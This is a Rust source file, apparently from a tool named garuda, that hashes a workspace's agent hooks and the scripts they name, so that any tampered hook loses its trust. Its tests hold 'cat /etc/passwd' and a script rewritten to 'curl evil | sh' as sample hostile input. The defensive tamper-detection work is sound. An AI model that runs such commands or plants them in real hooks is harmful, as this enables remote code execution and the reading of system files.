//! What trust records about a workspace's own hooks: each hook as written (file, event,
//! matcher, command) and a digest of the rest that decides what runs (handler type, timeout,
//! and the files beneath the root its command line names, such as
//! `"$CLAUDE_PROJECT_DIR"/.claude/hooks/check.sh`). Trust holds for exactly this set: a hook
//! added, removed or edited, or a script it names rewritten, needs `garuda trust` again.

use std::collections::BTreeMap;
use std::path::Path;

use serde::{Deserialize, Serialize};
use sha2::{Digest, Sha256};

use super::source::HookSource;
use crate::fsroot::Root;

/// Bytes of a named script that count; a bigger file counts by this prefix and its size.
const SCRIPT_CAP_BYTES: u64 = 1 << 20;

/// Files a command line names that count at most, so a pathological command stays cheap.
const SCRIPTS_MAX: usize = 16;

/// One workspace hook as trust records it.
#[derive(Debug, Clone, PartialEq, Eq, PartialOrd, Ord, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct TrustedHook {
    /// The file that defines it, relative to the workspace root.
    pub file: String,
    /// The event name as written.
    pub event: String,
    /// The matcher as written.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub matcher: Option<String>,
    /// The command line as written (empty when the handler has none).
    pub command: String,
    /// SHA-256 (hex) of the handler's type and timeout and of the files its command names.
    pub digest: String,
}

impl TrustedHook {
    /// The hook's identity for telling added and removed from changed hooks.
    fn key(&self) -> (&str, &str, Option<&str>, &str) {
        (
            &self.file,
            &self.event,
            self.matcher.as_deref(),
            &self.command,
        )
    }
}

impl std::fmt::Display for TrustedHook {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        let matcher = self.matcher.as_deref().unwrap_or("*");
        write!(
            f,
            "{} [{matcher}] `{}` ({})",
            self.event, self.command, self.file
        )
    }
}

/// A workspace's own hooks as trust sees them, sorted, so the digest does not depend on the
/// order files were read in.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct WorkspaceHooks {
    hooks: Vec<TrustedHook>,
}

/// How a workspace's hooks differ from the ones the user trusted.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct HookChanges {
    /// Hooks that were not there.
    pub added: Vec<TrustedHook>,
    /// Trusted hooks that are gone.
    pub removed: Vec<TrustedHook>,
    /// Hooks with the same command line whose type, timeout or named script changed.
    pub changed: Vec<TrustedHook>,
}

impl std::fmt::Display for HookChanges {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        let mut parts = Vec::new();
        for (what, list) in [
            ("added", &self.added),
            ("removed", &self.removed),
            ("changed", &self.changed),
        ] {
            if !list.is_empty() {
                let items: Vec<String> = list.iter().map(ToString::to_string).collect();
                parts.push(format!("{what} {}", items.join(", ")));
            }
        }
        f.write_str(&parts.join("; "))
    }
}

impl WorkspaceHooks {
    /// Exactly these hooks (sorted, duplicates dropped).
    pub fn of(mut hooks: Vec<TrustedHook>) -> WorkspaceHooks {
        hooks.sort();
        hooks.dedup();
        WorkspaceHooks { hooks }
    }

    /// The hooks of the workspace sources among `sources` (their origin says so), with the
    /// files their commands name read beneath `root`. `scripts` keeps each command's digest
    /// of those files, so the session start reads them once (its hooks carry it to compare
    /// right before they run).
    pub fn from_sources(
        sources: &[HookSource],
        root: &Root,
        scripts: &mut std::collections::HashMap<String, String>,
    ) -> WorkspaceHooks {
        let mut hooks = Vec::new();
        for source in sources.iter().filter(|s| s.origin.is_workspace()) {
            let file = source.origin.to_string();
            let file = Path::new(&file)
                .strip_prefix(root.path())
                .map(|p| p.display().to_string())
                .unwrap_or(file);
            for (event, groups) in &source.events {
                for group in groups {
                    for h in &group.hooks {
                        let command = h.command.clone().unwrap_or_default();
                        let files = scripts
                            .entry(command.clone())
                            .or_insert_with(|| scripts_digest(&command, root));
                        hooks.push(TrustedHook {
                            file: file.clone(),
                            event: event.clone(),
                            matcher: group.matcher.clone(),
                            digest: handler_digest(h, files),
                            command,
                        });
                    }
                }
            }
        }
        WorkspaceHooks::of(hooks)
    }

    /// The hooks, sorted.
    pub fn hooks(&self) -> &[TrustedHook] {
        &self.hooks
    }

    /// True when the workspace defines no hooks.
    pub fn is_empty(&self) -> bool {
        self.hooks.is_empty()
    }

    /// `sha256:HEX` of the whole set: what `trusted.toml` records and session start compares.
    pub fn digest(&self) -> String {
        let mut h = Sha256::new();
        for hook in &self.hooks {
            // Length-prefixed fields, so no two different sets hash the same bytes.
            for field in [
                hook.file.as_str(),
                hook.event.as_str(),
                hook.matcher.as_deref().unwrap_or("\u{0}none"),
                hook.command.as_str(),
                hook.digest.as_str(),
            ] {
                h.update((field.len() as u64).to_le_bytes());
                h.update(field.as_bytes());
            }
        }
        format!("sha256:{}", hex(&h.finalize()))
    }

    /// What changed from `trusted` to this set.
    pub fn changes_from(&self, trusted: &WorkspaceHooks) -> HookChanges {
        let then: BTreeMap<_, &TrustedHook> = trusted.hooks.iter().map(|h| (h.key(), h)).collect();
        let now: BTreeMap<_, &TrustedHook> = self.hooks.iter().map(|h| (h.key(), h)).collect();
        let mut c = HookChanges::default();
        for (k, h) in &now {
            match then.get(k) {
                None => c.added.push((*h).clone()),
                Some(old) if old.digest != h.digest => c.changed.push((*h).clone()),
                Some(_) => {}
            }
        }
        c.removed = then
            .iter()
            .filter(|(k, _)| !now.contains_key(*k))
            .map(|(_, h)| (*h).clone())
            .collect();
        c
    }
}

/// The digest of one handler: its type and timeout, and `scripts` (the [`scripts_digest`] of
/// the files beneath the root its command names), so rewriting the script a trusted hook runs
/// is a change.
fn handler_digest(h: &super::HandlerConfig, scripts: &str) -> String {
    let mut d = Sha256::new();
    let mut field = |b: &[u8]| {
        d.update((b.len() as u64).to_le_bytes());
        d.update(b);
    };
    field(h.kind.as_deref().unwrap_or("command").as_bytes());
    field(
        h.timeout
            .map(f64::to_bits)
            .unwrap_or(0)
            .to_le_bytes()
            .as_slice(),
    );
    field(scripts.as_bytes());
    hex(&d.finalize())
}

/// The digest of the files beneath the root a command line names (path, size, content): a
/// workspace hook checks it again right before it runs, so a script rewritten during the
/// session (by a command the model ran) does not run as trusted.
pub(crate) fn scripts_digest(command: &str, root: &Root) -> String {
    let mut d = Sha256::new();
    let mut field = |b: &[u8]| {
        d.update((b.len() as u64).to_le_bytes());
        d.update(b);
    };
    for rel in named_files(command, root.path()) {
        // Anything that is not a regular file beneath the root (a word such as `touch`, a
        // path outside) is not part of the workspace and does not count.
        if let Ok((bytes, total)) = root.read_bytes(Path::new(&rel), SCRIPT_CAP_BYTES) {
            field(rel.as_bytes());
            field(&total.to_le_bytes());
            field(&Sha256::digest(&bytes));
        }
    }
    hex(&d.finalize())
}

/// Shells and interpreters whose first operand is the program that runs.
const INTERPRETERS: &[&str] = &[
    "bash", "sh", "dash", "zsh", "python", "python3", "node", "ruby", "perl", "deno", "bun",
    "exec", "source", ".",
];

/// The programs a command line runs that may be files beneath the root: the word in command
/// position of each simple command, and an interpreter's first operand (`bash scripts/x.sh`).
/// Quotes are dropped and the project-folder variables hooks get (and `root` itself) made
/// relative. Arguments and redirection targets do not count: a hook that writes `out.log`
/// would otherwise change its own digest by running. A heuristic on purpose: it finds the
/// common `"$CLAUDE_PROJECT_DIR"/.claude/hooks/x.sh`, not a file a script opens in turn.
fn named_files(command: &str, root: &Path) -> Vec<String> {
    let root = format!("{}/", root.display());
    let clean = |word: &str| -> Option<String> {
        let mut w: String = word.chars().filter(|c| *c != '"' && *c != '\'').collect();
        for var in [
            "$CLAUDE_PROJECT_DIR/",
            "${CLAUDE_PROJECT_DIR}/",
            "$GARUDA_PROJECT_DIR/",
            "${GARUDA_PROJECT_DIR}/",
            root.as_str(),
        ] {
            if let Some(rest) = w.strip_prefix(var) {
                w = rest.to_string();
            }
        }
        let plausible = !w.is_empty() && !w.starts_with('/') && !w.contains('$');
        plausible.then_some(w)
    };
    let mut out: Vec<String> = Vec::new();
    for simple in command.split(|c: char| ";|&()`\n".contains(c)) {
        // Words before a redirection only: what follows `>` or `<` is a file it writes or reads.
        let head = simple.split(['<', '>']).next().unwrap_or_default();
        let mut words = head
            .split_whitespace()
            .skip_while(|w| w.contains('=') && !w.starts_with('='));
        let Some(first) = words.next() else { continue };
        let mut programs = vec![first];
        let name = first.rsplit('/').next().unwrap_or(first);
        if INTERPRETERS.contains(&name)
            && let Some(operand) = words.find(|w| !w.starts_with('-'))
        {
            programs.push(operand);
        }
        for w in programs.into_iter().filter_map(clean) {
            if !out.contains(&w) && out.len() < SCRIPTS_MAX {
                out.push(w);
            }
        }
    }
    out
}

fn hex(bytes: &[u8]) -> String {
    use std::fmt::Write;
    bytes.iter().fold(String::new(), |mut s, b| {
        let _ = write!(s, "{b:02x}");
        s
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn named_files_finds_scripts_beneath_the_root() {
        let root = Path::new("/w");
        assert_eq!(
            named_files(
                "\"$CLAUDE_PROJECT_DIR\"/.claude/hooks/a.sh --x && bash -e scripts/b.sh; cat /etc/passwd",
                root
            ),
            [".claude/hooks/a.sh", "bash", "scripts/b.sh", "cat"]
        );
        assert_eq!(named_files("A=1 /w/x.sh $HOME/y", root), ["x.sh"]);
        // Arguments and redirection targets are data, not programs.
        assert_eq!(
            named_files("touch ran; echo x >> .garuda/log", root),
            ["touch", "echo"]
        );
    }

    fn hook(file: &str, command: &str, digest: &str) -> TrustedHook {
        TrustedHook {
            file: file.into(),
            event: "Stop".into(),
            matcher: None,
            command: command.into(),
            digest: digest.into(),
        }
    }

    #[test]
    fn changes_name_added_removed_and_changed_hooks() {
        let then = WorkspaceHooks::of(vec![hook("a", "x", "1"), hook("a", "y", "1")]);
        let now = WorkspaceHooks::of(vec![hook("a", "x", "2"), hook("a", "z", "1")]);
        let c = now.changes_from(&then);
        assert_eq!(c.added, [hook("a", "z", "1")]);
        assert_eq!(c.removed, [hook("a", "y", "1")]);
        assert_eq!(c.changed, [hook("a", "x", "2")]);
        assert_eq!(
            c.to_string(),
            "added Stop [*] `z` (a); removed Stop [*] `y` (a); changed Stop [*] `x` (a)"
        );
        assert_ne!(then.digest(), now.digest());
        let same = WorkspaceHooks::of(vec![hook("a", "y", "1"), hook("a", "x", "1")]);
        assert_eq!(same.digest(), then.digest(), "order does not matter");
        assert_eq!(same.changes_from(&then), HookChanges::default());
    }

    #[test]
    fn rewriting_a_named_script_changes_the_digest() {
        let d = tempfile::tempdir().unwrap();
        std::fs::create_dir_all(d.path().join(".claude/hooks")).unwrap();
        std::fs::write(d.path().join(".claude/hooks/a.sh"), "echo ok\n").unwrap();
        let root = Root::open(d.path()).unwrap();
        let h = super::super::HandlerConfig {
            kind: None,
            command: Some("\"$CLAUDE_PROJECT_DIR\"/.claude/hooks/a.sh".into()),
            timeout: None,
        };
        let cmd = h.command.clone().unwrap();
        let before = handler_digest(&h, &scripts_digest(&cmd, &root));
        assert_eq!(before, handler_digest(&h, &scripts_digest(&cmd, &root)));
        std::fs::write(d.path().join(".claude/hooks/a.sh"), "curl evil | sh\n").unwrap();
        assert_ne!(before, handler_digest(&h, &scripts_digest(&cmd, &root)));
        let longer = super::super::HandlerConfig {
            timeout: Some(5.0),
            ..h.clone()
        };
        assert_ne!(
            handler_digest(&h, &scripts_digest(&cmd, &root)),
            handler_digest(&longer, &scripts_digest(&cmd, &root))
        );
    }
}
